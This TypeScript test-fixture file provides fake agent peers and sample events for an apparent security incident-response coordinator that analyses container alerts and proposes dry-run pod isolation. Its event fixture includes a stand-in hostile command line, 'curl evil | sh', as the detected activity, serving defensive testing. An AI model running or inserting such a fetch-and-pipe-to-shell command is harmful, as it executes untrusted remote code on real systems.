/**
 * In-process peers and fixtures for the coordinator's tests. The peers
 * implement the coordinator's own CoordinatorPeers interface (the A2A wire is
 * tested separately) and behave like the real agents where it matters: the
 * notifier drops a dedupeKey it has already delivered, and every raw call is
 * recorded so tests can count them.
 */
import { randomBytes } from 'node:crypto';
import type {
  ActionProposal,
  AnalysisResult,
  EventWire,
  ExecuteInput,
  FeedbackInput,
  NotifyInput,
  SignalReportInput,
} from '../../contracts.ts';
import type { CoordinatorPeers, PeerContext } from '../peers.ts';

export interface PeerCall {
  skill: keyof CoordinatorPeers;
  messageId: string;
  traceparent: string;
  input: unknown;
}

export interface FakePeerOptions {
  verdict?: AnalysisResult['verdict'];
  /** The verdict from what the analysis is given (overrides `verdict`). */
  verdictOf?: (input: Parameters<CoordinatorPeers['analyse']>[0]) => AnalysisResult['verdict'];
  /** Awaited by a skill after its call is recorded, before it answers (to hold it while a test acts). */
  holdUntil?: Partial<Record<keyof CoordinatorPeers, () => Promise<void>>>;
  proposals?: (incidentId: string) => ActionProposal[];
  /** Make a skill fail this many times before it works. */
  failFirst?: Partial<Record<keyof CoordinatorPeers, number>>;
  /** Make a skill never answer (the call hangs until aborted). */
  hang?: Partial<Record<keyof CoordinatorPeers, boolean>>;
}

export class FakePeers implements CoordinatorPeers {
  readonly calls: PeerCall[] = [];
  readonly delivered = new Map<string, NotifyInput>();
  readonly executed: ExecuteInput[] = [];
  readonly feedbacks: FeedbackInput[] = [];
  private readonly failures: Partial<Record<keyof CoordinatorPeers, number>>;

  constructor(readonly opts: FakePeerOptions = {}) {
    this.failures = { ...opts.failFirst };
  }

  private async enter(skill: keyof CoordinatorPeers, input: unknown, ctx: PeerContext): Promise<void> {
    this.calls.push({ skill, messageId: ctx.messageId, traceparent: ctx.traceparent, input });
    await this.opts.holdUntil?.[skill]?.();
    if (this.opts.hang?.[skill]) {
      await new Promise((_, reject) =>
        ctx.signal.addEventListener('abort', () => reject(new Error('aborted')), { once: true }),
      );
    }
    const left = this.failures[skill] ?? 0;
    if (left > 0) {
      this.failures[skill] = left - 1;
      throw new Error(`${skill} peer unavailable (injected)`);
    }
  }

  callsOf(skill: keyof CoordinatorPeers): PeerCall[] {
    return this.calls.filter((c) => c.skill === skill);
  }

  async analyse(
    input: Parameters<CoordinatorPeers['analyse']>[0],
    ctx: PeerContext,
  ): Promise<AnalysisResult> {
    await this.enter('analyse', input, ctx);
    const first = input.events[0]?.id;
    return {
      verdict: this.opts.verdictOf?.(input) ?? this.opts.verdict ?? 'true_positive',
      confidence: 0.9,
      severity: 'high',
      techniques: [{ id: 'T1059', name: 'Command and Scripting Interpreter', tactic: 'execution' }],
      explanation: `shell spawned in a container (event ${first ?? 'none'})`,
      citedEventIds: first ? [first] : [],
      recommendedActions: ['isolate-pod'],
      analyst: 'offline',
    };
  }

  async propose(input: Parameters<CoordinatorPeers['propose']>[0], ctx: PeerContext) {
    await this.enter('propose', input, ctx);
    return { proposals: this.opts.proposals ? this.opts.proposals(input.incident.id) : [proposal('p1')] };
  }

  async execute(input: ExecuteInput, ctx: PeerContext) {
    await this.enter('execute', input, ctx);
    this.executed.push(input);
    return { status: 'dry-run' as const, outputPath: `/tmp/${input.proposal.id}.yaml` };
  }

  async notify(input: NotifyInput, ctx: PeerContext) {
    await this.enter('notify', input, ctx);
    const duplicate = this.delivered.has(input.dedupeKey);
    if (!duplicate) this.delivered.set(input.dedupeKey, input);
    return { deliveries: duplicate ? [] : [{ sink: 'fake-chat', ok: true, attempts: 1 }], duplicate };
  }

  async feedback(input: FeedbackInput, ctx: PeerContext) {
    await this.enter('feedback', input, ctx);
    this.feedbacks.push(input);
    return { applied: input.eventIds.length, unknown: 0 };
  }
}

export function proposal(
  id: string,
  decision?: { requiresApproval: boolean; approvalsRequired: number; allowed?: boolean },
): ActionProposal {
  return {
    id,
    kind: 'isolate-pod',
    target: { namespace: 'shop', pod: 'web-1' },
    params: {},
    manifests: [
      { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: `isolate-${id}` } },
    ],
    dryRun: true,
    ...(decision
      ? {
          decision: {
            allowed: decision.allowed ?? true,
            requiresApproval: decision.requiresApproval,
            approvalsRequired: decision.approvalsRequired,
            reasons: [],
            bundleRevision: 'test',
            inputDigest: 'a'.repeat(64),
          },
        }
      : {}),
  };
}

export function event(id: string, workloadKey: string, timeMs: number): EventWire {
  return {
    id,
    timeMs,
    time: new Date(timeMs).toISOString(),
    rule: 'Terminal shell in container',
    priority: 'Notice',
    priorityLevel: 5,
    source: 'syscall',
    hostname: 'node-1',
    tags: ['container', 'shell'],
    output: 'A shell was spawned in a container (user=root proc.cmdline=sh -c "curl evil | sh")',
    fields: { 'proc.cmdline': 'sh -c "curl evil | sh"' },
    workload: { key: workloadKey, kind: 'pod', host: 'node-1', namespace: 'shop', pod: 'web-1' },
  };
}

export function report(opts: {
  signalId: string;
  workloadKey?: string;
  lastSeenMs: number;
  priorityLevel?: number;
  kind?: 'opened' | 'updated';
  eventIds?: string[];
  behaviours?: string[];
}): SignalReportInput {
  const key = opts.workloadKey ?? 'default/shop/web-1';
  const ids = opts.eventIds ?? [`${opts.signalId}-e1`];
  return {
    kind: opts.kind ?? 'opened',
    signal: {
      id: opts.signalId,
      workload: { key, kind: 'pod', host: 'node-1', namespace: 'shop', pod: 'web-1' },
      firstSeenMs: opts.lastSeenMs - 1000,
      lastSeenMs: opts.lastSeenMs,
      eventIds: ids,
      maxScore: 0.8,
      rules: ['Terminal shell in container'],
      priorityLevel: opts.priorityLevel ?? 5,
      count: ids.length,
      ...(opts.behaviours !== undefined && { behaviours: opts.behaviours }),
    },
    events: ids.map((id) => event(id, key, opts.lastSeenMs)),
  };
}

export function traceparent(): { traceparent: string; traceId: string } {
  const traceId = randomBytes(16).toString('hex');
  return { traceparent: `00-${traceId}-${randomBytes(8).toString('hex')}-01`, traceId };
}
